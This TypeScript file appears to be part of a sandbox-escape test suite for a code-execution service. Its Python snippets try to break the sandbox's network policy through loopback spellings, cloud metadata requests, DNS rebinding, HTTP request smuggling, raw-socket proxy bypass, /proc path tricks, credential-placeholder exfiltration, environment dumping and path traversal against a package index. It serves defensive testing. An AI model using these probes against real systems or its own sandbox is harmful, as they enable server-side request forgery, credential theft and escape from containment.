import type { NetworkPolicy } from "@codeact/protocol";
import type { SandboxNetworkOptions } from "../../network/open-session-network.ts";
import type { ResolveName } from "../../network/resolve-name.ts";
import type { EscapeAttempt, Scene } from "../attempt.ts";
import type { Ground } from "../ground.ts";

const claim = "the network policy";
const noProxy = "a bare interpreter has no proxy to talk to";
/** A name that every second answer moves from a public address to the host's loopback. */
export const REBINDING = "rebind.codeact.example";
const PLACEHOLDER = "{{codeact-escape}}";

/** Ways to ask: through the proxy as programs do (`fetch`), and by talking to it (`raw`). */
const WORDS = `
import socket, urllib.error, urllib.request
def fetch(url, headers={}, method="GET"):
    request = urllib.request.Request(url, headers=headers, method=method)
    with urllib.request.urlopen(request, timeout=5) as answer:
        leak(answer.read(100000))
        return answer.status
def raw(text, more=""):
    with socket.create_connection(("127.0.0.1", 3128), timeout=5) as box:
        box.sendall(text.encode())
        data = box.recv(10000)
        if more:
            box.sendall(more.encode())
        box.settimeout(2)
        try:
            while len(data) < 100000:
                piece = box.recv(10000)
                if not piece:
                    break
                data += piece
        except OSError:
            pass
        leak(data)
        return data
def tunnel(place):
    return raw("CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (place, place), "GET / HTTP/1.1\\r\\n\\r\\n")
`;

/** Answers for names of the suite, as a hostile name server gives them. */
function rebindingNames(): ResolveName {
  let asked = 0;
  return (name) => {
    if (name !== REBINDING) return Promise.resolve([]);
    asked += 1;
    // The public one belongs to a sink that answers nobody.
    return Promise.resolve([asked % 2 === 1 ? "192.175.48.127" : "127.0.0.1"]);
  };
}

/** For a sandbox under attack: hostile names, and no long wait for the address that nobody answers from. */
export const HOSTILE_NETWORK: SandboxNetworkOptions = {
  resolve: rebindingNames(),
  limits: { connectTimeoutMs: 500 },
};

function reached({ ground }: Scene): Promise<string | undefined> {
  const count = ground.takeConnections();
  return Promise.resolve(
    count > 0 ? `${count} connections reached a server of the host` : undefined,
  );
}

const open = (): NetworkPolicy => ({ kind: "open" });

function allowing(...ports: readonly ("redirectPort" | "echoPort")[]) {
  return ({ facts }: Ground): NetworkPolicy => ({
    kind: "allow",
    rules: ports.map((port) => ({ host: `127.0.0.1:${facts[port]}` })),
  });
}

/** Two web servers are allowed, and one of them may get a credential: the host's secret. */
function withCredential(ground: Ground): NetworkPolicy {
  const host = `127.0.0.1:${ground.facts.echoPort}`;
  return {
    kind: "allow",
    rules: [{ host }, { host: `127.0.0.1:${ground.facts.redirectPort}` }],
    credentials: [{ host, placeholder: PLACEHOLDER, value: ground.secret }],
  };
}

/** Reaching more than a session's network policy allows, through the proxy or past it. */
export const policyAttempts: readonly EscapeAttempt[] = [
  {
    name: "asks its proxy for the host's loopback in every spelling",
    claim,
    network: open,
    code: `${WORDS}
hosts = "127.0.0.1 localhost 0.0.0.0 [::ffff:127.0.0.1] [::1] 127.1 2130706433 0x7f.1 0177.0.0.1 LOCALHOST. %31%32%37.0.0.1".split()
for host in hosts:
    place = "%s:%d" % (host, HOST["tcpPort"])
    each(["http://" + place + "/"], fetch)
    each([place], tunnel)
each(HOST["addresses"], lambda address: fetch("http://%s:%d/" % (address, HOST["echoPort"])))`,
    after: reached,
  },
  {
    name: "asks its proxy for the metadata address of clouds",
    claim,
    network: open,
    code: `${WORDS}
def ask(host):
    try:
        fetch("http://%s/latest/meta-data/" % host, {"Metadata-Flavor": "Google", "Metadata": "true"})
        breach("was answered by " + host)
    except urllib.error.HTTPError as error:
        if error.code not in (400, 403):
            breach("%s was asked: %d" % (host, error.code))
each("169.254.169.254 [fd00:ec2::254] 169.254.170.2 100.100.100.200 [::ffff:a9fe:a9fe] 2852039166".split(), ask)`,
    unshown: "a machine outside of a cloud has none",
  },
  {
    name: "asks for a name that leads to the host at the second look (DNS rebinding)",
    claim,
    network: open,
    code: `${WORDS}
place = "${REBINDING}:%d" % HOST["tcpPort"]
for _ in range(3):
    each(["http://" + place + "/"], fetch)
    each([place], tunnel)`,
    after: reached,
    unshown: "a sandbox whose proxy lets names lead to private addresses shows it",
  },
  {
    name: "follows a redirect of an allowed host to the host itself",
    claim,
    network: allowing("redirectPort"),
    code: `${WORDS}\nfetch("http://127.0.0.1:%d/" % HOST["redirectPort"])`,
    after: reached,
  },
  {
    name: "asks for another port of an allowed host",
    claim,
    network: allowing("redirectPort"),
    code: `${WORDS}
place = "127.0.0.1:%d" % HOST["tcpPort"]
each(["http://" + place + "/"], fetch)
each([place, "127.0.0.1:%d@127.0.0.1:%d" % (HOST["redirectPort"], HOST["tcpPort"])], tunnel)
each([place], lambda _: raw("GET http://%s/ HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\n\\r\\n" % (place, HOST["redirectPort"])))`,
    after: reached,
  },
  {
    name: "hides a second request in the body of an allowed one",
    claim,
    network: allowing("redirectPort", "echoPort"),
    code: `${WORDS}
allowed_host = "127.0.0.1:%d" % HOST["echoPort"]
hidden = "GET http://127.0.0.1:%d/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % HOST["tcpPort"]
for headers in (
    "Content-Length: 4\\r\\nTransfer-Encoding: chunked", "Content-Length: 0\\r\\nContent-Length: %d" % len(hidden),
    "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity", "Transfer-Encoding : chunked", "Upgrade: h2c\\r\\nConnection: Upgrade",
):
    each(["0\\r\\n\\r\\n" + hidden, hidden], lambda body: raw("POST http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n%s\\r\\n\\r\\n%s" % (allowed_host, allowed_host, headers, body)))`,
    after: reached,
    unshown: noProxy,
  },
  {
    name: "goes past its proxy",
    claim,
    network: allowing("redirectPort"),
    code: `${WORDS}
def visit(address):
    with socket.create_connection(address, timeout=2) as connection:
        leak(connection.recv(1000))
each([("127.0.0.1", HOST["tcpPort"]), ("localhost", HOST["tcpPort"])], visit)
def name(path):
    with socket.socket(socket.AF_UNIX) as box:
        box.connect(path)
        leak(box.recv(1000))
each([HOST["unixPath"], "\\0" + HOST["abstractName"]], name)
# The handle by which the relay finds its socket: nothing beside it may be reached through it.
for fd in os.listdir("/proc/self/fd"):
    each(["/../kernel.sock", "/../root", "/.."], lambda rest: os.stat("/proc/self/fd/" + fd + rest) and os.readlink("/proc/self/fd/" + fd).startswith("/tmp/codeact-sandbox") and breach("reached " + rest))`,
    after: reached,
  },
  {
    name: "sends the placeholder of a credential to another host",
    claim,
    network: withCredential,
    code: `${WORDS}
mark = "${PLACEHOLDER}"
other = "http://127.0.0.1:%d/" % HOST["redirectPort"]
own = "127.0.0.1:%d" % HOST["echoPort"]
each([{"Authorization": mark}, {"Authorization": mark, "Host": own}, {"X-Forwarded-Host": own, "Cookie": mark}], lambda headers: fetch(other, headers))
each([other], lambda url: raw("GET %s HTTP/1.1\\r\\nHost: %s\\r\\nAuthorization: %s\\r\\n\\r\\n" % (url, own, mark)))
each([other + mark, other + "?" + mark], fetch)`,
    after: ({ ground }) =>
      Promise.resolve(
        ground.takeHeaders().includes(ground.secret) ? "another host got the secret" : undefined,
      ),
    unshown: "a bare interpreter has no proxy that would put a secret in",
  },
  {
    name: "has the host of a credential send it back, or finds it where it is itself",
    claim,
    network: withCredential,
    code: `${WORDS}
own = "http://127.0.0.1:%d/" % HOST["echoPort"]
mark = "${PLACEHOLDER}"
each(["identity", "gzip", "deflate, br"], lambda packing: fetch(own, {"Authorization": mark, "Accept-Encoding": packing, "Range": "bytes=5-"}))
each(range(0, 40, 7), lambda start: fetch(own, {"X-Key": "x" * start + mark + "y"}))
leak(json.dumps(dict(os.environ)))
each([1], lambda _: search_memory("self"))`,
  },
  {
    name: "reads or writes the host's files through the package index",
    claim,
    network: ({ facts }) => ({
      kind: "open",
      packageIndex: `http://127.0.0.1:${facts.redirectPort}/simple`,
    }),
    code: `${WORDS}
index = os.environ.get("PIP_INDEX_URL", "http://packages.codeact.internal/simple")
top = index.rsplit("/simple", 1)[0]
climbs = ["/../" * 20, "/%2e%2e" * 20 + "/", "/simple/..%2f" + "..%2f" * 20, "/files/" + "../" * 20, "/simple/x/" + "..\\\\" * 20, "//"]
each(climbs, lambda climb: fetch(top + climb + HOST["folder"].lstrip("/") + "/secret.txt"))
each(climbs, lambda climb: raw("GET %s%s%s/secret.txt HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % (top, climb, HOST["folder"].lstrip("/"))))
for method in ("PUT", "POST", "DELETE", "PATCH"):
    try:
        status = fetch(top + "/simple/poisoned/", {"Content-Length": "0"}, method)
        breach("%s was answered with %d" % (method, status))
    except Exception:
        pass`,
    after: reached,
    unshown: noProxy,
  },
];
